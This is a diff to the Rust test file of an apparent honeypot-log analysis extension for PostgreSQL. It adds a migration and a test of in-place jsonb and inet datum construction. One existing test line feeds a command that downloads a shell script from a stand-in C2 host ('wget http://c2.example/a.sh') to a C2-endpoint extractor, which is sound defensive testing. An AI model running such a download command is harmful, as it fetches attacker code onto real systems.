@@ -18,6 +18,7 @@ fn migrate() {
     Spi::run(include_str!("../migrations/V8__reverse_dns.sql")).expect("V8 migration applies");
     Spi::run(include_str!("../migrations/V9__identities.sql")).expect("V9 migration applies");
     Spi::run(include_str!("../migrations/V10__partitioned_logs.sql")).expect("V10 migration applies");
+    Spi::run(include_str!("../migrations/V11__cheaper_ingest_indexes.sql")).expect("V11 migration applies");
 }
 
 fn one<T: IntoDatum + FromDatum>(sql: &str) -> Option<T> {
@@ -645,4 +646,41 @@ fn shared_c2_links_unless_vetoed() {
     assert_eq!(one::<Vec<String>>("SELECT decnet.c2_endpoints('wget http://c2.example/a.sh')"), Some(vec!["c2.example:80".to_string()]));
     assert_eq!(one::<bool>("SELECT decnet.identity_of('6.6.6.1') = decnet.identity_of('6.6.6.2')"), Some(true));
     assert_eq!(one::<bool>("SELECT decnet.identity_of('6.6.7.1') = decnet.identity_of('6.6.7.2')"), Some(false), "different JA3s veto the shared C2");
+}
+
+/// The jsonb and inet datums ingest builds in place equal what jsonb_in and
+/// inet_in make of the same values' text, byte for byte (jsonb key order
+/// included: a misordered object would still print, but -> would miss keys).
+#[pg_test]
+fn datums_built_in_place_equal_the_parsed_ones() {
+    use serde_json::json;
+    let values = [
+        json!({"zz": 1, "b": "x", "aaa": [1, 2.5, -3, null, true, false, "é\t\"q\\"], "a": {}, "": [], "é": {"k": {"n": 1e300}}}),
+        json!({"fingerprint_type": "http_quirks", "order": ["Host", "User-Agent"], "stable_count": 2, "tool_guess": null}),
+        json!([]),
+        json!([{"b": 1, "a": 2}]),
+        json!("scalar"),
+        json!(12345678901234567_i64),
+        json!(null),
+    ];
+    for v in &values {
+        let built = crate::datum::jsonb_datum(v);
+        let parsed = pgrx::JsonB(v.clone()).into_datum().unwrap();
+        let same = unsafe { pgrx::direct_function_call::<bool>(pg_sys::jsonb_eq, &[Some(built), Some(parsed)]) };
+        let bytes = |d: pg_sys::Datum| unsafe {
+            let p = pg_sys::pg_detoast_datum_packed(d.cast_mut_ptr());
+            pgrx::varlena_to_byte_slice(p).to_vec()
+        };
+        assert_eq!(same, Some(true), "{v}");
+        assert_eq!(bytes(built), bytes(parsed), "{v}");
+    }
+    let fields = [(std::borrow::Cow::from("src_ip"), std::borrow::Cow::from("1.2.3.4")), ("a".into(), "b".into()), ("zz".into(), "\u{1}".into())];
+    let built = crate::datum::jsonb_object_datum(&fields);
+    let parsed = pgrx::JsonB(json!({"src_ip": "1.2.3.4", "a": "b", "zz": "\u{1}"})).into_datum().unwrap();
+    assert_eq!(unsafe { pgrx::direct_function_call::<bool>(pg_sys::jsonb_eq, &[Some(built), Some(parsed)]) }, Some(true));
+    for ip in ["203.0.113.7", "0.0.0.0", "2001:db8::1", "::ffff:1.2.3.4", "fe80::1"] {
+        let built = crate::datum::inet_datum(ip.parse().unwrap());
+        let parsed = pgrx::Inet(ip.into()).into_datum().unwrap();
+        assert_eq!(unsafe { pgrx::direct_function_call::<bool>(pg_sys::network_eq, &[Some(built), Some(parsed)]) }, Some(true), "{ip}");
+    }
 }
